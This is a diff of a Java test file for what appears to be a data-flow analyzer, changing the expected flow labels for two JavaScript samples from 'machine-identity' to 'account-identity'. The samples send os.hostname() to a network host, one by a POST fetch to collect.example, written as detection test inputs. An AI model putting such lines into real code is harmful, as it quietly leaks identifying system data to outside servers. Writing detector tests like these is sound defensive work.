@@ -60,7 +60,7 @@ class StreamsAndPromisesTest {
                 https.request({ hostname: where.hostname, headers: { 'x-machine': os.hostname() } });
                 """);
 
-        assertThat(analysis.flowNames()).containsExactly("machine-identity -> network-url");
+        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
     }
 
     @Test
@@ -70,7 +70,7 @@ class StreamsAndPromisesTest {
                 fetch('https://collect.example/u', { method: 'POST', body: os.hostname() });
                 """);
 
-        assertThat(analysis.flowNames()).containsExactly("machine-identity -> network-send");
+        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
     }
 
     @Test
